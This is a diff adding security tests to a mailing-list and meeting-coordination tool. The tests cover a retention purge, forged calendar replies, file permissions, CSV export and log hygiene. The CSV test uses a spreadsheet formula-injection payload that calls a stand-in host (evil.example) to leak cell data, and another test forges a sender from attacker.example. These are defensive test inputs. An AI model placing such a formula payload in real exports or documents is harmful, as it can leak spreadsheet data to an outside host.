@@ -2,6 +2,8 @@
 SMTP), each changing nothing and sending nothing but the confirmation or the coordinators' notice."""
 from __future__ import annotations
 
+import os
+
 import dkim
 
 from tests.test_trust_forgeries import ANNOUNCE, CONFIRM, forge, signed  # noqa: F401 - `signed` is a fixture
@@ -68,3 +70,140 @@ def test_a_removed_coordinator_cannot_answer_a_stranger_from_the_list_address(ne
     out = network.new_messages()
     assert [m.to for m in out] == ["jean@example.org"], [(m.to, m.subject) for m in out]
     assert "ancienne coordination" in out[0].subject and "rue Example" in out[0].text
+
+
+# --- nothing kept longer than the retention settings say ------------------------------------------
+
+RETAINED = "CANARY-7c1d-retention"
+
+
+def test_after_the_purge_no_meeting_words_stay_in_the_store_files(maildir_network, monkeypatch):
+    """The coordinator's description of a meeting and of a date poll, a calendar answer's note, a
+    poll answer and a held message's words: all gone from the store files once the purge has run
+    past the meetings (`purge --days 0`, a command typed)."""
+    from convenor.cli import main as cli_main
+    from tests import calendar_clients
+    import icalendar
+    net = maildir_network
+    net.send("Amina Diallo <amina@example.org>", "[Meeting] Planning day",
+             f"When: 2027-02-09 18:00\nWhere: 519 Church Street\nAudience: core\n\nWe will discuss {RETAINED} case.\n")
+    net.send("Amina Diallo <amina@example.org>", "[Meeting] Training day",
+             f"Candidates: 2027-02-10 18:00; 2027-02-11 18:00\nAudience: core\n\nAbout {RETAINED} too.\n")
+    net.send("Amina Diallo <amina@example.org>", "[Announce] Held news", f"Audience: all\n\n{RETAINED} news.\n",
+             authenticated=None)  # held until Amina confirms
+    net.step()
+    sent = net.new_messages()
+    invitation = next(m for m in sent if m.to == "li@example.org" and "Planning day" in m.subject)
+    poll = next(m for m in sent if m.to == "li@example.org" and "Training day" in m.subject)
+    uid = str(icalendar.Calendar.from_ical(next(d for n, _, d in invitation.attachments if n == "invite.ics"))
+              .walk("VEVENT")[0]["uid"])
+    net.reply(invitation, "Agenda: the budget")   # (agenda items become the minutes: the record, kept)
+    net.reply(poll, f"1 — {RETAINED} permitting")
+    net.deliver(calendar_clients.google(
+        name="Li Wei", address="li@example.org", to=net.list_address, uid=uid, partstat="TENTATIVE",
+        title="Planning day", now=net.now, subject="Tentatively accepted: Planning day (li@example.org)",
+        comment=f"Late because of {RETAINED}"), authenticated="pass")
+    net.step()
+    net.set_time(net.now.replace(month=3))   # the meetings are past, the held message expired
+    net.step()
+    net.step()
+    store_files = [net.settings.store.path, net.settings.store.path + "-wal"]
+    net.close()
+
+    def canary_bytes() -> int:
+        return sum(open(p, "rb").read().count(RETAINED.encode()) for p in store_files if os.path.exists(p))
+
+    assert canary_bytes() > 0
+    monkeypatch.setattr("convenor.cli_common.now", lambda: net.now)
+    assert cli_main(["--config", str(net.config), "purge", "--days", "0"]) == 0
+    net.close()
+    db = net.db
+    found = {t: db.execute(f"SELECT count(*) FROM {t} WHERE CAST({c} AS TEXT) LIKE ?", [f"%{RETAINED}%"]).fetchone()[0]
+             for t, c in (("meetings", "description"), ("outbox", "body_text"),
+                          ("held", "raw"), ("inbound", "raw"))}
+    assert not any(found.values()), found
+    net.close()
+    assert canary_bytes() == 0
+
+
+# --- a calendar answer is attendance only from the member, or with the invitation's UID -------------
+
+def test_a_stranger_naming_a_member_as_attendee_without_the_invitations_uid_records_nothing(network):
+    from tests import calendar_clients
+    from tests.test_meetings_calendar_answers import TITLE, announce, attendance
+    announce(network)
+    forged = calendar_clients.apple(name="Li Wei", address="li@example.org", to=network.list_address,
+                                    uid="DROPPED", partstat="DECLINED", title=TITLE, now=network.now,
+                                    subject=f"Declined: {TITLE}")
+    forged = forged.replace(b"UID:DROPPED\r\n", b"").replace(b"From: Li Wei <li@example.org>",
+                                                            b"From: Li Wei <evil@attacker.example>")
+    assert b"UID:" not in forged
+    network.deliver(forged, authenticated="pass")   # the attacker's own domain passes
+    network.step()
+    out = network.new_messages()
+    assert attendance(network) == {}
+    assert network.messages_to("li@example.org", out) == []
+    assert network.db.execute("SELECT handler FROM inbound ORDER BY id DESC LIMIT 1").fetchone()[0] == "stranger"
+
+
+# --- files: the owner's alone, whatever the umask ----------------------------------------------------
+
+def _mode(path) -> int:
+    import stat
+    return stat.S_IMODE(os.stat(path).st_mode)
+
+
+def test_the_decisions_export_is_the_owners_alone_and_runs_no_formula(mail_stack, tmp_path):
+    import csv
+    from convenor.cli import main as cli_main
+    from tests.fixtures_convenor import Network
+    from tests.test_record_decisions import MEMBERS, vote_and_close
+    net = Network(tmp_path, stack=mail_stack, members=MEMBERS)
+    old_umask = os.umask(0o022)
+    try:
+        vote_and_close(net, '[Vote] =HYPERLINK("https://evil.example/?"&A1,"Adopt")',
+                       "Closes: in 5 days\n\n+That the network adopts the brochure.\n",
+                       {"jean@example.org": "Oui", "li@example.org": "Yes"})
+        net.close()
+        target = tmp_path / "decisions.csv"
+        assert cli_main(["--config", str(net.config), "decisions", "export", "--to", str(target)]) == 0
+        assert _mode(target) == 0o600
+        with open(target, encoding="utf-8") as f:
+            row, = list(csv.DictReader(f))
+        assert row["title"].startswith("'=HYPERLINK") and row["motion"].startswith("'+That")
+    finally:
+        os.umask(old_umask)
+        net.close()
+
+
+def test_a_new_store_folder_and_a_new_settings_folder_are_the_owners_alone(tmp_path):
+    from convenor.cli import main as cli_main
+    from tests.fixtures_convenor import Network
+    old_umask = os.umask(0o022)
+    try:
+        assert cli_main(["init", str(tmp_path / "setup")]) == 0
+        net = Network(tmp_path, extra_settings="")
+        settings_text = net.config.read_text().replace('path = "convenor.db"', 'path = "private/store/convenor.db"')
+        net.config.write_text(settings_text)
+        assert cli_main(["--config", str(net.config), "members", "list"]) == 0
+    finally:
+        os.umask(old_umask)
+    assert _mode(tmp_path / "setup") == 0o700
+    assert _mode(tmp_path / "setup" / "members.csv") == 0o600 and _mode(tmp_path / "setup" / "convenor.toml") == 0o600
+    assert _mode(tmp_path / "private") == 0o700 and _mode(tmp_path / "private" / "store") == 0o700
+
+
+# --- no word a sender wrote in any log: automatic replies' headers ---------------------------------
+
+def test_an_automatic_replys_own_header_words_reach_no_log(network, caplog):
+    import logging
+    caplog.set_level(logging.DEBUG)
+    canary = "zqautoCANARY"
+    network.send("Li Wei <li@example.org>", "Re: hello", "I am away.", headers={"Auto-Submitted": f"{canary} words"})
+    network.send("Li Wei <li@example.org>", "Re: hello", "I am away.", headers={f"X-Auto-{canary}": "yes"})
+    network.send("Li Wei <li@example.org>", "Re: hello", "I am away.", headers={f"X-{canary}-Autoreply": "on"})
+    network.step()
+    handled = network.db.execute("SELECT handler FROM inbound").fetchall()
+    assert [h for (h,) in handled] == ["machine"] * 3     # each read as automatic, and ignored
+    logs = "\n".join(r.getMessage() for r in caplog.records if r.name.startswith("convenor"))
+    assert "automatic reply" in logs and canary.lower() not in logs.lower()
